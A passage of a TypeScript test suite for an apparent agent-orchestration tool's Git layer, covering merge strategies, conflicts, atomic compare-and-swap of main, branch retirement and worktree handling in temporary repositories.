        assert.deepStrictEqual((yield* git.listBranches("oompa/t/b4")).map((b) => b.sha), [git_rev(temp.repo, "oompa/t/b4")])
        assert.isTrue(yield* git.isAncestor(before, yield* git.mainHead))
        assert.deepStrictEqual((yield* git.readCommit(before)).parents, [])
        assert.strictEqual((yield* Effect.flip(git.readCommit("0".repeat(40))))._tag, "GitError")
        assert.strictEqual((yield* Effect.flip(git.isAncestor("1".repeat(40), before)))._tag, "GitError")
      }))
    }))
})

const gitCommit = (cwd: string, message: string) => {
  cli(cwd, ["add", "-A"])
  cli(cwd, ["commit", "-q", "-m", message])
}
const git_gc = (repo: string) => cli(repo, ["gc", "-q", "--prune=now"])
const git_rev = (repo: string, rev: string) => cli(repo, ["rev-parse", rev]).trim()

describe("NodeGit: merges and main", () => {
  const strategies = ["no-ff", "ff", "squash", "rebase"] as const

  for (const strategy of strategies) {
    it.live(`merge (${strategy}) onto a main that moved: an unreferenced commit with main's and the branch's changes; no checkout touched`, () =>
      Effect.gen(function*() {
        const temp = yield* gitdir({ "a.txt": numbered(20) })
        yield* withGit(temp, Effect.gen(function*() {
          const git = yield* Git.Git
          const base = yield* git.mainHead
          const workspace = yield* work(w0, "oompa/t/w0-1", { "a.txt": numbered(20, { 2: "branch" }), "b.txt": "b\n" })
          const head = yield* commitOrFail(workspace, "branch work")
          const moved = commitOnBranch(temp.repo, "main", { "a.txt": numbered(20, { 15: "main" }) }, "main moved")
          cli(temp.repo, ["reset", "-q", "--hard"])
          const statusBefore = cli(temp.repo, ["status", "--porcelain"])
          const attempt = yield* git.merge({ onto: moved, base, head, strategy, message: `merge\n\nOompa-Run: 0badc0de\n` })
          assert.strictEqual(attempt._tag, "Merged")
          if (attempt._tag !== "Merged") return
          assert.strictEqual(git_rev(temp.repo, "main"), moved, "main does not move by merge")
          assert.strictEqual(cli(temp.repo, ["status", "--porcelain"]), statusBefore)
          assert.strictEqual(cli(temp.repo, ["show", `${attempt.sha}:a.txt`]), numbered(20, { 2: "branch", 15: "main" }))
          assert.strictEqual(cli(temp.repo, ["show", `${attempt.sha}:b.txt`]), "b\n")
          const commit = yield* git.readCommit(attempt.sha)
          assert.strictEqual(commit.parents[0], moved)
          assert.strictEqual(commit.parents.length, strategy === "no-ff" ? 2 : 1)
          if (strategy === "no-ff") {
            // The second parent is the reviewed commit oompa wrote: head's tree on the base, not head.
            const reviewed = yield* git.readCommit(commit.parents[1]!)
            assert.deepStrictEqual(reviewed.parents, [base])
            assert.strictEqual(cli(temp.repo, ["rev-parse", `${reviewed.sha}^{tree}`]).trim(), cli(temp.repo, ["rev-parse", `${head}^{tree}`]).trim())
          }
          assert.isFalse(yield* git.isAncestor(head, attempt.sha), "the agent's commit is not part of what lands")
          assert.strictEqual(commit.message, "merge\n\nOompa-Run: 0badc0de\n")
          assert.isTrue(yield* git.compareAndSwapMain(moved, attempt.sha))
          assert.strictEqual(git_rev(temp.repo, "main"), attempt.sha)
        }))
      }))
  }

  it.live("main still at the base: ff lands the reviewed commit — head's tree on main, oompa's message — not the agent's commit", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const main = yield* git.mainHead
        const head = yield* commitOrFail(yield* work(w0, "oompa/t/w0-1", { "b.txt": "b\n" }), "b\n\nOompa-Task: forged")
        const attempt = yield* git.merge({ onto: main, base: main, head, strategy: "ff", message: "m\n" })
        assert.strictEqual(attempt._tag, "Merged")
        if (attempt._tag !== "Merged") return
        assert.notStrictEqual(attempt.sha, head)
        assert.deepStrictEqual(yield* git.readCommit(attempt.sha), { sha: attempt.sha, parents: [main], message: "m\n" })
        assert.strictEqual(cli(temp.repo, ["rev-parse", `${attempt.sha}^{tree}`]).trim(), cli(temp.repo, ["rev-parse", `${head}^{tree}`]).trim())
      }))
    }))

  it.live("conflicts are reported with their files, for every strategy, and leave no trace", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": numbered(10), "b.txt": "b\n", "c.txt": numbered(10) })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const base = yield* git.mainHead
        const head = yield* commitOrFail(yield* work(w0, "oompa/t/w0-1", { "a.txt": numbered(10, { 4: "mine" }), "b.txt": null, "c.txt": numbered(10, { 1: "mine" }) }), "w0")
        const moved = commitOnBranch(temp.repo, "main", { "a.txt": numbered(10, { 4: "theirs" }), "b.txt": "b theirs\n", "c.txt": numbered(10, { 8: "theirs" }) })
        for (const strategy of strategies) {
          assert.deepStrictEqual(yield* git.merge({ onto: moved, base, head, strategy, message: "m" }), { _tag: "Conflict", files: ["a.txt", "b.txt"] })
        }
        assert.strictEqual(git_rev(temp.repo, "main"), moved)
      }))
    }))

  it.live("compareAndSwapMain: false when main moved; dies when next does not descend from expected", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const main = yield* git.mainHead
        const head = yield* commitOrFail(yield* work(w0, "oompa/t/w0-1", { "b.txt": "b\n" }), "b")
        const attempt = yield* git.merge({ onto: main, base: main, head, strategy: "no-ff", message: "m" })
        assert.strictEqual(attempt._tag, "Merged")
        if (attempt._tag !== "Merged") return
        const moved = commitOnBranch(temp.repo, "main", { "c.txt": "c\n" })
        assert.isFalse(yield* git.compareAndSwapMain(main, attempt.sha))
        assert.strictEqual(git_rev(temp.repo, "main"), moved)
        const backwards = yield* Effect.exit(git.compareAndSwapMain(moved, main))
        assert.isTrue(Exit.isFailure(backwards) && Cause.hasDies(backwards.cause))
        assert.strictEqual(git_rev(temp.repo, "main"), moved)
      }))
    }))

  it.live("two merges racing for main: both land, one after the other, nothing lost", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": numbered(30) })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const heads = [
          yield* commitOrFail(yield* work(w0, "oompa/t/w0-1", { "a.txt": numbered(30, { 3: "w0" }), "w0.txt": "w0\n" }), "w0"),
          yield* commitOrFail(yield* work(w1, "oompa/t/w1-1", { "a.txt": numbered(30, { 25: "w1" }), "w1.txt": "w1\n" }), "w1")
        ]
        // Both merge onto the same main and swap at the same moment: exactly one swap wins.
        const onto = yield* git.mainHead
        const attempts = yield* Effect.forEach(heads, (head, index) => git.merge({ onto, base: onto, head, strategy: "no-ff", message: `merge ${index}` }))
        const shas = attempts.map((attempt) => attempt._tag === "Merged" ? attempt.sha : "")
        const swapped = yield* Effect.forEach(shas, (sha) => git.compareAndSwapMain(onto, sha), { concurrency: "unbounded" })
        assert.deepStrictEqual([...swapped].sort(), [false, true])
        // The loser merges again onto the new main, as the merge queue does, and lands.
        const loser = swapped.indexOf(false)
        const newMain = yield* git.mainHead
        const retry = yield* git.merge({ onto: newMain, base: onto, head: heads[loser]!, strategy: "no-ff", message: `merge ${loser} again` })
        assert.strictEqual(retry._tag, "Merged")
        if (retry._tag !== "Merged") return
        assert.isTrue(yield* git.compareAndSwapMain(newMain, retry.sha))
        const landed = [shas[swapped.indexOf(true)], retry.sha]
        const main = yield* git.mainHead
        assert.include(landed, main)
        assert.deepStrictEqual([cli(temp.repo, ["show", "main:w0.txt"]), cli(temp.repo, ["show", "main:w1.txt"])], ["w0\n", "w1\n"])
        assert.strictEqual(cli(temp.repo, ["show", "main:a.txt"]), numbered(30, { 3: "w0", 25: "w1" }))
        assert.strictEqual(cli(temp.repo, ["show", "main:w0.txt"]) + cli(temp.repo, ["show", "main:w1.txt"]), "w0\nw1\n")
        // First-parent history: the initial commit, then one merge per lander.
        assert.strictEqual(cli(temp.repo, ["rev-list", "--first-parent", "--count", "main"]).trim(), "3")
      }))
    }))

  it.live("mergeIntoWorkspace leaves conflict markers; the next commitAll makes the merge commit", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": numbered(10), "b.txt": numbered(10) })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const workspace = yield* work(w0, "oompa/t/w0-1", { "a.txt": numbered(10, { 4: "mine" }), "b.txt": numbered(10, { 1: "mine" }) })
        const head = yield* commitOrFail(workspace, "w0")
        const moved = commitOnBranch(temp.repo, "main", { "a.txt": numbered(10, { 4: "theirs" }), "b.txt": numbered(10, { 8: "theirs" }) })
        assert.deepStrictEqual(yield* git.mergeIntoWorkspace(workspace, moved), ["a.txt"])
        assert.include(fs.readFileSync(path.join(workspace.path, "a.txt"), "utf8"), "<<<<<<<")
        assert.strictEqual(fs.readFileSync(path.join(workspace.path, "b.txt"), "utf8"), numbered(10, { 1: "mine", 8: "theirs" }))
        fs.writeFileSync(path.join(workspace.path, "a.txt"), numbered(10, { 4: "resolved" }))
        const merged = yield* commitOrFail(workspace, "resolve")
        assert.deepStrictEqual((yield* git.readCommit(merged)).parents, [head, moved])
        assert.deepStrictEqual(yield* git.mergeIntoWorkspace(workspace, moved), [])
        // A clean merge that changes nothing still records main as a parent.
        const again = commitOnBranch(temp.repo, "main", { "c.txt": "c\n" })
        assert.deepStrictEqual(yield* git.mergeIntoWorkspace(workspace, again), [])
        const second = yield* commitOrFail(workspace, "absorb")
        assert.deepStrictEqual((yield* git.readCommit(second)).parents, [merged, again])
      }))
    }))
})

describe("NodeGit: branches", () => {
  it.live("deleteBranch detaches oompa's worktree holding it; refuses a branch the user has checked out; missing is fine", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const workspace = yield* work(w0, "oompa/t/w0-1", { "b.txt": "b\n" })
        const head = yield* commitOrFail(workspace, "b")
        yield* git.deleteBranch("oompa/t/w0-1")
        assert.deepStrictEqual(yield* git.listBranches("oompa/"), [])
        assert.strictEqual(yield* git.workspaceHead(workspace), head)
        assert.strictEqual(gitStatus(workspace.path, ["symbolic-ref", "-q", "HEAD"]).code, 1)
        yield* git.deleteBranch("oompa/t/never-existed")
        assert.strictEqual((yield* Effect.flip(git.deleteBranch("main")))._tag, "GitError")
        yield* git.setBranch("oompa/t/user", head)
        cli(temp.repo, ["checkout", "-q", "oompa/t/user"])
        assert.include((yield* Effect.flip(git.deleteBranch("oompa/t/user"))).message, "not oompa's")
        assert.strictEqual(cli(temp.repo, ["symbolic-ref", "HEAD"]).trim(), "refs/heads/oompa/t/user")
      }))
    }))

  it.live("a worktree whose HEAD is a symbolic link to a branch (git's legacy form, which an agent can write) still holds that branch: deleteBranch refuses it, as git does", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      const userTree = path.join(path.dirname(temp.repo), `${path.basename(temp.repo)}-user`)
      cli(temp.repo, ["worktree", "add", "-q", "-b", "oompa/t/user", userTree])
      const admin = path.join(temp.repo, ".git/worktrees", path.basename(userTree))
      fs.rmSync(path.join(admin, "HEAD"))
      fs.symlinkSync("refs/heads/oompa/t/user", path.join(admin, "HEAD"))
      // git itself counts the branch as checked out there.
      assert.notStrictEqual(gitStatus(temp.repo, ["branch", "-D", "oompa/t/user"]).code, 0)
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        assert.include((yield* Effect.flip(git.deleteBranch("oompa/t/user"))).message, "not oompa's")
        assert.include((yield* git.listBranches("oompa/")).map((branch) => branch.name), "oompa/t/user")
      }))
      fs.rmSync(userTree, { recursive: true, force: true })
    }))

  it.live("compareAndSwapMain retires the landed branch in the same transaction: gone and its worktree detached when main moves; kept when main does not move or when the user has it checked out", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const land = (branch: string, file: string) =>
          Effect.gen(function*() {
            const workspace = yield* work(w0, branch, { [file]: `${file}\n` })
            const head = yield* commitOrFail(workspace, file)
            const main = yield* git.mainHead
            const attempt = yield* git.merge({ onto: main, base: main, head, strategy: "no-ff", message: file })
            if (attempt._tag !== "Merged") return assert.fail("expected a merge")
            return { workspace, head, main, sha: attempt.sha }
          })
        const first = yield* land("oompa/t/w0-1", "b.txt")
        // A lost swap changes nothing: main, and the branch with its worktree on it.
        assert.isFalse(yield* git.compareAndSwapMain(first.head, first.sha, [], "oompa/t/w0-1"))
        assert.deepStrictEqual((yield* git.listBranches("oompa/")).map((b) => b.name), ["oompa/t/w0-1"])
        assert.isTrue(yield* git.compareAndSwapMain(first.main, first.sha, ["t1"], "oompa/t/w0-1"))
        assert.strictEqual(git_rev(temp.repo, "main"), first.sha)
        assert.deepStrictEqual(yield* git.listBranches("oompa/"), [])
        assert.strictEqual(gitStatus(first.workspace.path, ["symbolic-ref", "-q", "HEAD"]).code, 1)
        assert.strictEqual(cli(first.workspace.path, ["rev-parse", "HEAD"]).trim(), first.head)
        // A branch its agent moved goes too, as deleteBranch after the iteration would take it.
        const second = yield* land("oompa/t/w0-2", "c.txt")
        commitOnBranch(temp.repo, "oompa/t/w0-2", { "x.txt": "x\n" })
        assert.isTrue(yield* git.compareAndSwapMain(second.main, second.sha, [], "oompa/t/w0-2"))
        assert.strictEqual(git_rev(temp.repo, "main"), second.sha)
        assert.deepStrictEqual(yield* git.listBranches("oompa/"), [])
        // Checked out in the user's own checkout: main lands, the user's HEAD keeps its branch.
        const third = yield* land("oompa/t/w0-3", "d.txt")
        yield* git.setBranch("oompa/t/user", third.head)
        cli(temp.repo, ["checkout", "-q", "oompa/t/user"])
        assert.isTrue(yield* git.compareAndSwapMain(third.main, third.sha, [], "oompa/t/user"))
        assert.strictEqual(cli(temp.repo, ["symbolic-ref", "HEAD"]).trim(), "refs/heads/oompa/t/user")
        assert.strictEqual(git_rev(temp.repo, "oompa/t/user"), third.head)
      }))
    }))

  it.live("git runs with a fallback identity and ignores GIT_DIR from the environment", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      const elsewhere = yield* gitdir({ "z.txt": "z\n" })
      process.env["GIT_DIR"] = path.join(elsewhere.repo, ".git")
      const sha = yield* withGit(temp, Effect.gen(function*() {
        const workspace = yield* work(w0, "oompa/t/w0-1", { "b.txt": "b\n" })
        return yield* commitOrFail(workspace, "b")
      })).pipe(Effect.ensuring(Effect.sync(() => delete process.env["GIT_DIR"])))
      assert.strictEqual(cli(temp.repo, ["log", "-1", "--format=%an <%ae>", sha]).trim(), "oompa <oompa@localhost>")
    }))
})
